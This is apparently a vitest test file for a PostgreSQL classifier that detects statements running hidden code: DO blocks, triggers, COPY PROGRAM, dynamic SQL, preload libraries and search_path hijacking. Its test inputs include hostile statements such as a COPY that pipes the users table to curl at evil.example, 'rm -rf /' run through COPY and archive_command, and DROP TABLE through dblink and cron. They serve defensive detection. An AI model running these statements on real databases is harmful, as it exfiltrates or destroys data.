import { beforeAll, describe, expect, it } from 'vitest';
import { classifySql, loadSqlClassifier } from '../sql-classifier';
import { OPAQUE_KINDS, settingRunsCode } from './opaque-code';

beforeAll(async () => {
  await loadSqlClassifier();
});

/** The opaque kinds of every statement of `sql` (nested ones included), in order. */
function opaque(sql: string): string[] {
  const result = classifySql(sql);
  if (!result.ok) throw new Error(result.error);
  return result.statements.flatMap((s) => s.opaque ?? []);
}

describe('opaque code', () => {
  it.each([
    ['DO $$ BEGIN EXECUTE $q$DROP TABLE users$q$; END $$', ['DO']],
    ["do language plpgsql 'begin perform 1; end'", ['DO']],
    ['CALL purge_everything()', ['CALL']],
    [
      "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$BEGIN EXECUTE 'DROP TABLE t'; RETURN 1; END$$",
      ['CREATE FUNCTION'],
    ],
    ['CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', ['CREATE FUNCTION']],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END', ['CREATE FUNCTION']],
    ["CREATE FUNCTION f(int) RETURNS int AS 'regress', 'f' LANGUAGE C", ['CREATE FUNCTION']],
    ['CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$', ['CREATE PROCEDURE']],
    ['ALTER FUNCTION f() SECURITY DEFINER', ['ALTER FUNCTION']],
    ['ALTER PROCEDURE p() SET search_path = evil', ['ALTER PROCEDURE']],
    ['ALTER ROUTINE r() RESET ALL', ['ALTER ROUTINE']],
    [
      "CREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW EXECUTE FUNCTION run_arg('DROP TABLE y')",
      ['CREATE TRIGGER'],
    ],
    ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', ['CREATE EVENT TRIGGER']],
    ['CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM u', ['CREATE RULE']],
    [
      'CREATE SCHEMA s CREATE TABLE t (i int) CREATE TRIGGER tr AFTER INSERT ON t EXECUTE FUNCTION f()',
      ['CREATE TRIGGER'],
    ],
    ['CREATE AGGREGATE a(int) (sfunc = f, stype = int)', ['CREATE AGGREGATE']],
    ['CREATE OPERATOR === (leftarg = int, rightarg = int, function = f)', ['CREATE OPERATOR']],
    ['CREATE CAST (int AS text) WITH FUNCTION f(int)', ['CREATE CAST']],
    ['CREATE TYPE t (input = t_in, output = t_out)', ['CREATE TYPE']],
    ['CREATE TYPE r AS RANGE (subtype = int, subtype_diff = f)', ['CREATE TYPE']],
    ["CREATE CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM f", ['CREATE CONVERSION']],
    ['CREATE TRANSFORM FOR int LANGUAGE plpgsql (FROM SQL WITH FUNCTION f(internal))', ['CREATE TRANSFORM']],
    ['CREATE OPERATOR CLASS c FOR TYPE int USING btree AS FUNCTION 1 f(int, int)', ['CREATE OPERATOR CLASS']],
    ['ALTER OPERATOR FAMILY f USING btree ADD FUNCTION 1 g(int, int)', ['ALTER OPERATOR FAMILY']],
    ['ALTER TYPE t SET (receive = f)', ['ALTER TYPE']],
    ['ALTER OPERATOR = (int, int) SET (restrict = f)', ['ALTER OPERATOR']],
    [
      'CREATE TEXT SEARCH PARSER p (start = a, gettoken = b, end = c, lextypes = d)',
      ['CREATE TEXT SEARCH PARSER'],
    ],
    ['CREATE LANGUAGE plperlu', ['CREATE EXTENSION']], // the parser reads it as CREATE EXTENSION
    ['CREATE LANGUAGE pl HANDLER pl_call_handler', ['CREATE LANGUAGE']],
    ['CREATE ACCESS METHOD am TYPE TABLE HANDLER h', ['CREATE ACCESS METHOD']],
    ['CREATE FOREIGN DATA WRAPPER w HANDLER h', ['CREATE FOREIGN DATA WRAPPER']],
    ['CREATE EXTENSION dblink', ['CREATE EXTENSION']],
    ['ALTER EXTENSION dblink UPDATE', ['ALTER EXTENSION']],
    ["LOAD 'auto_explain'", ['LOAD']],
    ["COPY users TO PROGRAM 'curl -d @- evil.example'", ['COPY PROGRAM']],
    ["COPY t FROM PROGRAM 'rm -rf /'", ['COPY PROGRAM']],
    ["SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')", ['DYNAMIC SQL']],
    ["SELECT * FROM dblink('dbname=app', 'DELETE FROM users RETURNING 1') AS t(i int)", ['DYNAMIC SQL']],
    ["select public.DBLINK_EXEC('drop table users')", ['DYNAMIC SQL']],
    ["SELECT * FROM ts_stat('DELETE FROM t RETURNING tsv')", ['DYNAMIC SQL']],
    ["SELECT ts_rewrite('a'::tsquery, 'SELECT * FROM aliases')", ['DYNAMIC SQL']],
    ["SELECT * FROM crosstab('DELETE FROM t RETURNING 1, 2, 3') AS c(a int, b int)", ['DYNAMIC SQL']],
    ["SELECT cron.schedule('* * * * *', 'DROP TABLE users')", ['DYNAMIC SQL']],
    ["INSERT INTO log SELECT query_to_xml('x', true, true, '')", ['DYNAMIC SQL']],
    ["SET session_preload_libraries = 'evil'", ['CODE SETTING']],
    ["SET local_preload_libraries TO 'plugins/evil'", ['CODE SETTING']],
    ["ALTER ROLE app SET session_preload_libraries = 'evil'", ['CODE SETTING']],
    ["ALTER SYSTEM SET archive_command = 'rm -rf /'", ['CODE SETTING']],
    ['SET search_path = evil, pg_catalog', ['CODE SETTING']],
    ['ALTER DATABASE app SET search_path = evil, pg_catalog', ['CODE SETTING']],
    ["SELECT set_config('search_path', 'evil, pg_catalog', false)", ['CODE SETTING']],
    ["SELECT set_config('session_preload_libraries', 'x', false)", ['CODE SETTING']],
    ['SELECT set_config(name, value, false) FROM settings_to_apply', ['CODE SETTING']],
    ["SELECT set_config('search_path', $1, false)", ['CODE SETTING']],
    // Not opaque: everything the text shows, and code that was already on the server.
    ['SELECT lower(email), my_existing_function(id) FROM users', []],
    ['SET search_path = app, public', []],
    ['SET search_path = pg_catalog, app', []],
    ['SET search_path TO "$user", public', []],
    ["SELECT pg_catalog.set_config('search_path', '', false)", []],
    ["SELECT set_config('application_name', 'x', false)", []],
    ["CREATE TYPE mood AS ENUM ('sad', 'ok')", []],
    ['CREATE TYPE pair AS (a int, b int)', []],
    ['CREATE TYPE shell', []],
    ['CREATE CAST (int AS mytype) WITHOUT FUNCTION', []],
    ['CREATE FOREIGN DATA WRAPPER w', []],
    ["CREATE TABLE t (id int DEFAULT nextval('s'))", []],
    ["COPY users TO '/tmp/users.csv'", []],
    ['CREATE VIEW v AS SELECT * FROM users', []],
    ['ALTER TABLE t ENABLE TRIGGER ALL', []],
  ])('%s', (sql, kinds) => {
    expect(opaque(sql)).toEqual(kinds);
  });

  it('treats opaque code as writing, whatever its statement type', () => {
    const result = classifySql("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')");
    expect(result).toMatchObject({ ok: true, statements: [{ type: 'SELECT', readOnly: false }] });
  });

  it('names statements in SQL words (types the policy vocabulary can select)', () => {
    const types = (sql: string) => {
      const result = classifySql(sql);
      return result.ok ? result.statements.map((s) => s.type) : [];
    };
    expect(types('CREATE TRIGGER t AFTER INSERT ON x EXECUTE FUNCTION f()')).toEqual(['CREATE TRIGGER']);
    expect(types('CREATE RULE r AS ON INSERT TO t DO NOTHING')).toEqual(['CREATE RULE']);
    expect(types('CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$')).toEqual(['CREATE PROCEDURE']);
    expect(types('SET CONSTRAINTS ALL DEFERRED')).toEqual(['SET CONSTRAINTS']);
    expect(types('CHECKPOINT')).toEqual(['CHECKPOINT']);
    expect(types("CREATE TABLESPACE ts LOCATION '/x'")).toEqual(['CREATE TABLESPACE']);
    expect(types('RESET ALL')).toEqual(['RESET']);
    expect(types('ANALYZE t')).toEqual(['ANALYZE']);
    expect(types('REFRESH MATERIALIZED VIEW m')).toEqual(['REFRESH MATERIALIZED VIEW']);
    expect(types("CREATE TYPE mood AS ENUM ('a')")).toEqual(['CREATE TYPE']);
  });

  it('lists every kind it can report in the policy vocabulary', () => {
    expect(OPAQUE_KINDS).toContain('CODE SETTING');
    expect(OPAQUE_KINDS).toContain('UNPARSED');
  });

  it('reads search_path as the server does: pg_catalog first unless named after another schema', () => {
    expect(settingRunsCode('search_path', 'evil, pg_catalog')).toBe(true);
    expect(settingRunsCode('SEARCH_PATH', '"Evil" ,PG_CATALOG')).toBe(true);
    expect(settingRunsCode('search_path', 'pg_temp, pg_catalog')).toBe(false);
    expect(settingRunsCode('search_path', 'app, public')).toBe(false);
    expect(settingRunsCode('search_path', '"pg_catalog", app')).toBe(false);
    expect(settingRunsCode('search_path', 'a b, pg_catalog')).toBe(true); // unreadable: fail closed
    expect(settingRunsCode('DateStyle', 'ISO')).toBe(false);
    expect(settingRunsCode('Session_Preload_Libraries', '')).toBe(true);
  });
});
